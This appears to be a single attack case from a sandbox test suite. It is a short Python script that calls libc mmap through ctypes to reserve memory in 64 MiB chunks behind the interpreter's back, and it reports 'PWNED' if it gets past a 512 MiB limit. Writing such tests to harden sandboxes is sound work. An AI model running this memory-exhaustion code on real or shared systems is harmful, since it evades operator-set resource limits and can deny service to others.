# attack: use-up-memory-by-mapping
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: dos-mem
# success: more memory than one run may have, behind the interpreter's back
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def run():
    libc.mmap.restype = ctypes.c_void_p
    got = 0
    for _ in range(64):
        if libc.mmap(None, ctypes.c_size_t(64 << 20), 3, 0x8022, -1, 0) in (None, 2**64 - 1):
            break
        got += 64
    return "PWNED %d MiB" % got if got > 512 else "limited %d MiB" % got
